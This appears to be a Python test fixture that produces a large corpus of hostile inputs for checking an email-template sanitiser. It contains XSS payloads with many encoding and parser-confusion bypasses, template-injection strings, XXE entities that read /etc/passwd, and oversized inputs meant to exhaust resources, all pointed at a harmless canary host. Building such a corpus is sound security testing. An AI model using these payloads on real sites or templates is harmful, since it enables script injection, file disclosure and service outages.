"""HTML, MJML, Markdown and CSS that would run something, load something or stand where a value can break out."""

from collections.abc import Iterator
from itertools import product

#: Whoever runs says so in a dialog; whoever loads asks for this host.
RUN, HOST = "alert(1)", "//canary.invalid"
_NAME = "{{ lead.first_name }}"

_ACTIVE = (
    f"<script>{RUN}</script>", f"<ScRiPt >{RUN}</ScRiPt>", f"<script/x>{RUN}</script>",
    f"<script src={HOST}/a.js></script>", f"<script\n>{RUN}</script\n>", f"<<script>{RUN}//<</script>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>", "<applet code=x></applet>",
    f"<form action=javascript:{RUN}><button>a</button></form>", f"<form><button formaction=javascript:{RUN}>a</form>",
    f"<input autofocus onfocus={RUN}>", f"<isindex action={HOST}>", f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>", f"<keygen autofocus onfocus={RUN}>",
    f"<base href=javascript:{RUN}//>", f"<base href={HOST}>", f"<link rel=stylesheet href={HOST}/a.css>",
    f"<link rel=import href={HOST}>", f"<link rel=preload as=script href={HOST}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<META HTTP-EQUIV='ReFresh' content='0;url=http:{HOST}'>", "<meta http-equiv=Set-Cookie content=a=b>",
    "<meta charset=utf-7>", "<meta charset=iso-2022-jp>",
    "<meta http-equiv=content-type content='text/html; charset=utf-7'>",
    "<meta http-equiv=Content-Security-Policy content=x>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>a</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set attributeName=onmouseover to={RUN}></svg>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></foreignObject>",
    "<svg><use href='data:image/svg+xml,x#a'/></svg>", f"<math><a xlink:href=javascript:{RUN}>a</a></math>",
    f"<math><mtext><script>{RUN}</script></mtext></math>", f"<video src=x onerror={RUN}></video>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>a</details>", f"<marquee onstart={RUN}>a</marquee>",
    f"<template><script>{RUN}</script>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<frameset onload={RUN}>", f"<dialog open onclose={RUN}>", f"<portal src=javascript:{RUN}>",
    f"<xml id=a><a><b>&lt;img src=x onerror={RUN}&gt;</b></a></xml>", f"<bgsound src={HOST}>",
    f"<image src=x onerror={RUN}>", f"<img srcset='{HOST}/a 1x'>", f"<picture><source srcset={HOST}/a></picture>",
    f"<a href=# ping={HOST}>a</a>", f"<map><area href=javascript:{RUN}></map>", f"<table background=javascript:{RUN}>",
    f"<body onload={RUN}>", f"<html manifest={HOST}>", f"<plaintext><script>{RUN}</script>",
    f"<listing><script>{RUN}</script>", f"<xmp><script>{RUN}</script></xmp>",
    f"<noembed><script>{RUN}</script></noembed>", f"<noframes><script>{RUN}</script>",
    f"<?xml-stylesheet href=javascript:{RUN}?>", f"<![CDATA[<script>{RUN}</script>]]>", f"<!ENTITY a '{RUN}'>",
    "<o:p>a</o:p>",
)  # fmt: skip
_HANDLERS = (
    "onerror", "ONLOAD", "onmouseover", "onfocus", "onanimationstart", "onpointerenter", "onwheel", "onbeforetoggle",
)  # fmt: skip
_QUOTINGS = (
    "<img src=x {on}={run}>", "<img src=x {on}='{run}'>", '<img/src="x"/{on}="{run}">', "<img src=x\n{on}\n=\n{run}>",
    "<img src='x'{on}={run}>", "<img alt='>' src=x {on}={run}>", "<img alt=a`b {on}={run}>",
    "<img src=x {on}=&#97;lert(1)>",
)  # fmt: skip
_SCHEMES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"\x01javascript:{RUN}", f"java\tscript:{RUN}",
    f"java\nscript:{RUN}", f"java&#9;script:{RUN}", f"java&Tab;script&colon;{RUN}", f"&#106;avascript:{RUN}",
    f"&#x6A&#x61vascript:{RUN}", f"javascript&#58;{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"blob:{RUN}", "file:///etc/passwd",
    f"view-source:{RUN}", f"jar:http:{HOST}!/", f"\ufeffjavascript:{RUN}", f"javascript://%0a{RUN}",
    f"https:{RUN}\\@a", "//canary.invalid", "feed:x", "{{ lead.first_name }}",
    "https://a.example/{{ lead.first_name }}", "{{ lead.first_name }}:a", "mailto:{{ lead.first_name }}",
    "{{ links.page('x')|replace('https:', 'javascript:') }}", "{{ links.page('x') ~ lead.first_name ~ ('y') }}",
    "{{ links.page(lead.first_name) }}", "{{ links.page('x' ~ lead.first_name) }}", "{{ links.page(*['x']) }}",
    "{{ links.url('javascript:alert(1)') }}", "{{ links['page']('x') }}", "{% if 1 %}javascript:alert(1){% endif %}",
)  # fmt: skip
#: A name that the compiler gives to a link, taken by the template.
_TAKEN = (
    "{% set link_0 = 'javascript:alert(1)' %}", "{% for link_0 in ['javascript:alert(1)'] %}",
    "{% set _link_0 = 'javascript:alert(1)' %}", "{% for _link_0 in ['javascript:alert(1)'] %}",
    "{% set _links_unsubscribe = 'javascript:alert(1)' %}", "{% set page = 'javascript:alert(1)' %}",
)  # fmt: skip
_STANDS = (
    '<a href="{}">a</a>', "<a title='>' href='{}'>a</a>", "<img src='{}'>",
    "<table><tr><td background='{}'></td></tr></table>", "<area href='{}'>",
)  # fmt: skip
_CSS = (
    f"background:url(javascript:{RUN})", f"width:expression({RUN})", f"width:e/**/xpression({RUN})",
    f"width:\\65xpression({RUN})", f"w:expr\\65 ssion({RUN})", "behavior:url(a.htc)", "-moz-binding:url(a.xml#a)",
    f"background:url({HOST}/a)", f"background:URL( '{HOST}/a' )", "background:url(data:image/svg+xml,x)",
    f"content:'/*';width:expression({RUN});content:'*/'", "background:image-set('//canary.invalid/a' 1x)",
    f"background:\\75rl({HOST}/a)", _NAME, "color:{{ lead.first_name }}", "background:url({{ lead.first_name }})",
    "color:{% if lead.first_name %}red{% endif %};{{ lead.first_name }}",
)  # fmt: skip
_SHEETS = (
    f"@import '{HOST}/a';", f"@\\69mport url({HOST}/a);", f"</style><script>{RUN}</script>", "<!--",
    f"@import\n'{HOST}'",
)  # fmt: skip
_PLACES = (
    f"<{_NAME}>a", f"<p {_NAME}>a</p>", f"<p title={_NAME}>a</p>", f"<p {_NAME}=a>a</p>", f"<img src={_NAME}>",
    f"<!-- {_NAME} -->", f"<!-- {_NAME}> <img src=x onerror={RUN}> -->", f"<style>{_NAME}</style>",
    f"<title>a</title>{_NAME}<", f"<p class='{_NAME}' id='{_NAME}'>a</p>", f"<!--[if mso]>{_NAME}<![endif]-->",
    "<p title='{% if lead.first_name %}' data-x=\"{% else %}{% endif %}\" dir=' onclick=alert(1) '>a</p>",
    "<p {% if 1 %}onclick=alert(1){% endif %}>a</p>", "<p title=\"{% if 1 %}\"{% endif %}>a</p>",
    "<scr{# #}ipt>alert(1)</script>", "<scr{%raw%}ipt{%endraw%}>alert(1)</script>",
    "<{{ 'script' }}>alert(1)</script>", "{{ '<script>alert(1)</script>' }}",
    "<p title=\"{{ '\\\" onclick=alert(1) \\\"' }}\">a</p>", "<a{{ ' ' }}href='javascript:alert(1)'>a</a>",
    "&#123;&#123; lead.__class__ }}", "&lbrace;&lbrace; 9 ** 999999999 }}", "&#123;% include '/etc/passwd' %}",
    "&#123;# hidden #}", "&#76;FTAG0X", "&#76;FTAG999X", f'<a href="&#76;FTAG0X">{_NAME}</a>', "LFTAG0X",
    "L{# #}FTAG0X",
)  # fmt: skip
_MUTATIONS = (
    f"<style> <p title='</style><img src=x onerror={RUN}>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>", f"<!--><img src=x onerror={RUN}>-->",
    f"<!---><img src=x onerror={RUN}>-->", f"<!-- --!><img src=x onerror={RUN}>-->",
    f"<!--[if mso]><script>{RUN}</script><![endif]-->", f"<!--[if IE]><img src=x onerror={RUN}><![endif]-->",
    f"<![if !mso]><script>{RUN}</script><![endif]>", f"<p title='--><script>{RUN}</script>'>",
    f"<title><p title='</title><img src=x onerror={RUN}>'>",
    f"<table><td><style><!--</style><img src=x onerror={RUN}>-->",
    f"<math><mi><table><mglyph><style><img src=x onerror={RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<p x\"y='><script>{RUN}</script>'>", f"<p \x00onclick={RUN}>a</p>", f"<p onclick\x0b={RUN}>",
    f"<a\x00 href=javascript:{RUN}>a</a>", "<p " + "a" * 5000 + f" onclick={RUN}>",
    "<div>" * 3000 + "a" + "</div>" * 3000, "<b>" * 100_000, "<p " + "title='a' " * 20000 + ">", "<" * 50_000,
    "&" * 50_000, "<!--" * 20_000, "<a href=" * 10_000, "<table>" * 2000, "<p>" + "a" * 3_000_000 + "</p>",
    "<style>" + "a{b:c}" * 20_000 + "</style>",
)  # fmt: skip
_MJML = (
    f"<mj-raw><script>{RUN}</script></mj-raw>", f"<mj-raw><img src=x onerror={RUN}></mj-raw>",
    "<mj-include path='/etc/passwd'/>", "<mj-include path='/etc/passwd' type='html'/>",
    "<mj-include path='http://canary.invalid/a.mjml'/>", f"<mj-text onclick='{RUN}'>a</mj-text>",
    f"<mj-section><mj-column><mj-button href='javascript:{RUN}'>a</mj-button></mj-column></mj-section>",
    f"<mj-section><mj-column><mj-button href='java&#9;script:{RUN}'>a</mj-button></mj-column></mj-section>",
    f"<mj-section><mj-column><mj-image src='javascript:{RUN}' href='javascript:{RUN}'/></mj-column></mj-section>",
    f"<mj-section><mj-column><mj-text><script>{RUN}</script></mj-text></mj-column></mj-section>",
    f"<mj-section><mj-column><mj-text><img src='x' onerror='{RUN}'/></mj-text></mj-column></mj-section>",
    f"<mj-section><mj-column><mj-text color='{_NAME}'>a</mj-text></mj-column></mj-section>",
    f"<mj-section><mj-column><mj-text css-class='{_NAME}'>a</mj-text></mj-column></mj-section>",
    f"<mj-section background-url='javascript:{RUN}'><mj-column></mj-column></mj-section>",
    f"<mj-section background-color='red;background:url({HOST})'><mj-column></mj-column></mj-section>",
    "<mj-section>" * 2000 + "</mj-section>" * 2000, "<mj-wat>a</mj-wat>",
    f"<mj-style>a{{b:expression({RUN})}}</mj-style>",
)  # fmt: skip
_HEADS = (
    f"<mj-font name='x' href='http:{HOST}/a.css'/>", f"<mj-style>@import '{HOST}';</mj-style>",
    "<mj-title></title><script></mj-title>", f"<mj-style>a{{width:expression({RUN})}}</mj-style>",
    f"<mj-raw><script>{RUN}</script></mj-raw>",
    "<mj-html-attributes><mj-selector path='.a div'><mj-html-attribute name='onclick'>"
    f"{RUN}</mj-html-attribute></mj-selector></mj-html-attributes>",
    f"<mj-attributes><mj-all onclick='{RUN}'/></mj-attributes>",
    f"<mj-preview></div><script>{RUN}</script></mj-preview>",
)  # fmt: skip
_DOCTYPES = (
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><mjml><mj-body><mj-raw>&b;</mj-raw></mj-body></mjml>',
    '<!DOCTYPE a [<!ENTITY b "bbb"><!ENTITY c "&b;&b;&b;">]><mjml><mj-body><mj-raw>&c;</mj-raw></mj-body></mjml>',
    "<mjml><mj-body>", "<mjml>" * 3000,
)  # fmt: skip
_MARKDOWN = (
    f"[a](javascript:{RUN})", f"[a](JaVaScript:{RUN})", f"[a](java&#9;script:{RUN})", f"[a](<javascript:{RUN}>)",
    f"<javascript:{RUN}>", f"[a]: javascript:{RUN}\n\n[a]", f"![a](javascript:{RUN})",
    f"![a](data:image/svg+xml,<svg onload={RUN}>)", f"<script>{RUN}</script>", f"**a** <img src=x onerror={RUN}>",
    f'[a](https://a.example "\' onclick={RUN}")', "[a](https://a.example/{{ lead.first_name }})",
    "[a]({{ lead.first_name }})", "![a]({{ lead.first_name }})", f"[a](https://a.example\"onclick={RUN})",
    "\\{\\{ lead.__class__ }}", "&#123;&#123; lead.__class__ }}", f"```\n<script>{RUN}</script>\n```", "[" * 30_000,
    "> " * 30_000, "* " * 3000 + "a", "*a_" * 20_000, "`" * 50_000, "[a](" * 10_000,
    "|a" * 5000 + "|\n" + "|-" * 5000 + "|\n", "![[[[[[" * 3000, f"[a](vbscript:{RUN})", f"[a](data:text/html,{RUN})",
)  # fmt: skip


def pages() -> Iterator[tuple[str, str]]:
    """(kind, source) of each body."""
    html = [*_ACTIVE, *_PLACES, *_MUTATIONS, *(stand.format(scheme) for stand, scheme in product(_STANDS, _SCHEMES))]
    html += [how.format(on=on, run=RUN) for how, on in product(_QUOTINGS, _HANDLERS)]
    html += [f"{taken}<a href='{{{{ links.page('x') }}}}'>a</a>" + _end(taken) for taken in _TAKEN]
    html += [f'<p style="{css}">a</p>' for css in _CSS] + [f"<style>p{{{css}}}</style><p>a</p>" for css in _CSS]
    html += [f"<style>{sheet}</style><p>a</p>" for sheet in _SHEETS]
    yield from (("html", source) for source in html)
    yield from (("html", f"<!doctype html><html><head>{one}</head><body>{one}</body></html>") for one in _ACTIVE)
    yield from (("mjml", f"<mjml><mj-body>{source}</mj-body></mjml>") for source in _MJML)
    yield from (("mjml", f"<mjml><mj-head>{source}</mj-head><mj-body></mj-body></mjml>") for source in _HEADS)
    yield from (("mjml", source) for source in _DOCTYPES)
    yield from (("md", source) for source in _MARKDOWN)


def _end(tag: str) -> str:
    return "{% endfor %}" if tag.startswith("{% for") else ""
